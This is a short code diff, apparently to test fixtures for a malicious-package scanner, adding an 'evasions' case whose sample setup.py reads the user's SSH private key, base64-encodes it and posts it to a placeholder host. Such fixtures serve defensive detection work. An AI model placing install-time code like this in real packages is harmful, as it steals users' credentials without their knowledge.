@@ -66,5 +66,14 @@ such file, and counts little.`,
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "setup.py":
+            "import requests as r, base64\nfrom pathlib import Path\nk = base64.b64encode((Path.home() / '.ssh' / 'id_rsa').read_bytes())\nr.post('http://example.invalid', data=k)\n",
+        },
+      },
+    ],
   },
 };
